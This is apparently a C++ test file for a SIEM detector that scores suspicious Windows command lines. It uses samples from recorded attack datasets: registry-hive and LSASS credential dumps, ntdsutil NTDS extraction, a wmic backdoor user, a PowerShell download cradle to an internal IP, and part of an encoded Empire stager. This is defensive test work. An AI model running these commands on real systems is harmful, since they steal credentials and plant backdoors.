// The suspicious-command scorer on command lines from the OTRF operators' transcripts (metadata/*.yaml),
// the recorded events, and lateral-movement.md's examples.
#include <doctest/doctest.h>

#include <algorithm>
#include <filesystem>
#include <string>
#include <vector>

#include "siem/event_store.hpp"
#include "skill/techniques/command_scoring.hpp"
#include "udm/query_compiler.hpp"

using namespace lh::skill::techniques;

namespace {

bool has(const std::vector<std::string>& list, const std::string& item) {
  return std::find(list.begin(), list.end(), item) != list.end();
}

}  // namespace

TEST_CASE("transcripts: PsExec dumping the LSA secrets hive") {
  // cmd_psexec_lsa_secrets_dump.yaml: the operator's command, and reg.exe as Sysmon logged it.
  for (const std::string line : {R"(PsExec.exe -accepteula -s reg save HKLM\security\policy\secrets %temp%\secrets)",
                                 R"("reg" save HKLM\security\policy\secrets C:\Users\wardog\AppData\Local\Temp\secrets)"}) {
    INFO(line);
    const auto s = score_command(line);
    CHECK(s.pattern_ids == std::vector<std::string>{"reg_save_credential_hive"});
    CHECK(has(s.attack_ids, "T1003.004"));
    CHECK(s.score == 45);
  }
  CHECK(score_command(R"(reg save HKLM\SAM C:\temp\sam.save)").pattern_ids == std::vector<std::string>{"reg_save_credential_hive"});
  CHECK(score_command(R"(reg.exe save hklm\system system.hiv)").score == 45);
  CHECK(score_command(R"(reg save HKLM\Software\Foo foo.hiv)").score == 0);
}

TEST_CASE("transcripts: wmic adding a backdoor user") {
  // empire_wmic_add_user_backdoor.yaml
  const auto s = score_command(R"(wmic /node:WORKSTATION6 process call create "net user /add backdoor pa$$w0rd1")");
  CHECK(has(s.pattern_ids, "account_creation"));
  CHECK(has(s.pattern_ids, "net_account_discovery"));
  CHECK(has(s.attack_ids, "T1136.001"));
  CHECK(s.score == 50);
  // The child WmiPrvSE started on WORKSTATION6, as Sysmon logged it.
  CHECK(score_command("net user /add backdoor paw0rd1").score == 50);
}

TEST_CASE("transcripts: whoami after PsExec-style service execution") {
  // empire_psexec / empire_smbexec .yaml: "shell whoami" on the new SYSTEM agent.
  const auto s = score_command("whoami");
  CHECK(s.pattern_ids == std::vector<std::string>{"whoami"});
  CHECK(s.attack_ids == std::vector<std::string>{"T1033"});
  CHECK(s.score == 10);
}

TEST_CASE("transcripts: benign or merely lateral commands score nothing") {
  for (const std::string line : {
           // schtask_create.yaml, covenant_copy_smb_CreateRequest.yaml, covenant_sharpwmi_create_dcerpc_wmi.yaml,
           // covenant_psremoting_command.yaml
           R"(C:\Windows\system32\cmd.exe /C schtasks /create /F /tn "\Microsoft\Windows\SoftwareProtectionPlatform\EventCacheManager" /tr "C:\Windows\system32\cmd.exe /C C:\Windows\System32\notepad.exe" /sc ONSTART /ru system /S WORKSTATION6)",
           R"(Copy /source:"C:\Users\pgustavo\Desktop\GruntHTTP.exe" /destination:"\\WORKSTATION6\C$\ProgramData\GruntHTTP.exe")",
           R"(SharpWMI /command:"action=exec computername=WORKSTATION6 command=\"C:\\Windows\\System32\\GruntHTTP2.exe\"")",
           R"(PowerShellRemotingCommand /computername:"WORKSTATION6" /command:"get-process" /domain:"theshire.local")",
           R"(C:\windows\system32\svchost.exe -k netsvcs -p -s gpsvc)",
           R"(C:\windows\PSEXESVC.exe)",
           "",
       }) {
    INFO(line);
    const auto s = score_command(line);
    CHECK(s.score == 0);
    CHECK(s.pattern_ids.empty());
  }
}

TEST_CASE("lateral-movement.md examples") {
  SUBCASE("wmiexec output redirection, plain and HTML-escaped") {
    for (const std::string line : {R"(cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1600000000.123456 2>&1)",
                                   R"(cmd.exe /Q /c whoami 1&gt; \\127.0.0.1\ADMIN$\__1600000000.123456 2&gt;&amp;1)"}) {
      INFO(line);
      const auto s = score_command(line);
      CHECK(s.pattern_ids == std::vector<std::string>{"whoami", "loopback_share_output"});
      CHECK(s.score == 40);
    }
  }
  SUBCASE("credential dumping") {
    CHECK(score_command(R"(rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full)").pattern_ids ==
          std::vector<std::string>{"comsvcs_minidump"});
    CHECK(score_command(R"(rundll32 comsvcs.dll #24 624 lsass.dmp full)").pattern_ids == std::vector<std::string>{"comsvcs_minidump"});
    const auto ntds = score_command(R"(ntdsutil "ac i ntds" "ifm" "create full c:\temp" q q)");
    CHECK(ntds.pattern_ids == std::vector<std::string>{"ntdsutil"});
    CHECK(has(ntds.attack_ids, "T1003.003"));
  }
  SUBCASE("discovery and account manipulation") {
    CHECK(score_command(R"(net group "Domain Admins" /domain)").pattern_ids == std::vector<std::string>{"net_account_discovery"});
    CHECK(score_command("net localgroup administrators").pattern_ids == std::vector<std::string>{"net_account_discovery"});
    const auto add = score_command("net localgroup administrators backdoor /add");
    CHECK(has(add.pattern_ids, "admin_group_add"));
    CHECK(has(add.attack_ids, "T1098"));
  }
  SUBCASE("download cradle") {
    const auto s = score_command(R"x(powershell -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://10.10.10.5/a')")x");
    CHECK(has(s.pattern_ids, "download_cradle"));
    CHECK(has(s.pattern_ids, "invoke_expression"));
    CHECK(has(s.pattern_ids, "powershell_no_profile"));
    CHECK(has(s.attack_ids, "T1105"));
  }
  SUBCASE("the score is capped") {
    const auto s = score_command(
        R"(powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA= ; reg save HKLM\SAM s ; ntdsutil ifm ; net user x /add ; whoami)");
    CHECK(s.score == 100);
  }
}

TEST_CASE("encoded PowerShell is decoded and scored too") {
  // The start of the Empire stager in empire_psexec_dcerpc_tcp_svcctl's 7045 ImagePath.
  const std::string line =
      "%COMSPEC% /C start /b C:\\Windows\\System32\\WindowsPowershell\\v1.0\\powershell -noP -sta -w 1 -enc  "
      "SQBmACgAJABQAFMAVgBFAHIAUwBpAE8AbgBUAGEAYgBsAEUALgBQAFMAVgBFAFIAcwBJAE8AbgAuAE0AYQBqAG8AcgAgAC0ARwBFACAAMwApAHsAJAA0ADMARABlADIAPQBbAHIARQBGAF0ALgBBAFMAcwBlAE0AQgBsAHkALgBHAEUAVABUAFkAcABlACgAJwBTAHkAcwB0AGUAbQAuAE0AYQBuAGEAZwBlAG0AZQBuAHQALgBBAHUAdABvAG0AYQB0AGkAbwBuAC4AVQB0AGkAbABzACcAKQAuACIARwBFAHQARgBJAEUAYABsAGQAIgAoACcAYwBhAGMAaABlAGQARwByAG8AdQBwAFAAbwBsAGkAYwB5AFMAZQB0AHQAaQBuAGcA";
  const std::string script = decode_encoded_powershell(line);
  CHECK(script.rfind("If($PSVErSiOnTablE.PSVERsIOn.Major -GE 3){$43De2=[rEF].ASseMBly.GETTYpe(", 0) == 0);
  const auto s = score_command(line);
  CHECK(has(s.pattern_ids, "encoded_powershell"));
  CHECK(has(s.pattern_ids, "powershell_hidden_window"));
  CHECK(has(s.pattern_ids, "powershell_no_profile"));
  CHECK(has(s.pattern_ids, "comspec_oneliner"));
  CHECK(has(s.pattern_ids, "script_logging_tamper"));  // only visible in the decoded script
  CHECK(decode_encoded_powershell("powershell -nop -c whoami").empty());
}

TEST_CASE("the recorded Empire service command scores high") {
  const std::filesystem::path zip = std::filesystem::path(LH_OTRF_DATASETS_DIR) / "empire_psexec_dcerpc_tcp_svcctl.zip";
  if (!std::filesystem::exists(zip)) {
    MESSAGE("SKIPPED: " << zip.string() << " not found (shared/ is not beside the repository)");
    return;
  }
  lh::siem::EventStore store;
  store.load({zip});
  const auto found = store.search(lh::udm::compile_query(R"(metadata.product_event_type = "7045" AND target.application = "Updater")"),
                                  lh::siem::TimeRange{}, 10);
  REQUIRE(found.events.size() == 1);
  const auto event = store.view(found.events.front());
  const std::string command(event->first_string(*lh::udm::find_field("target.process.command_line")));
  const auto s = score_command(command);
  MESSAGE("Empire Invoke-PsExec service command: score " << s.score);
  CHECK(has(s.pattern_ids, "encoded_powershell"));
  CHECK(has(s.pattern_ids, "amsi_bypass"));      // 'Amsi'+'Utils' in the decoded stager
  CHECK(has(s.pattern_ids, "download_cradle"));  // Net.WebClient ... DownloadData
  CHECK(has(s.pattern_ids, "invoke_expression"));
  CHECK(s.score == 100);
}
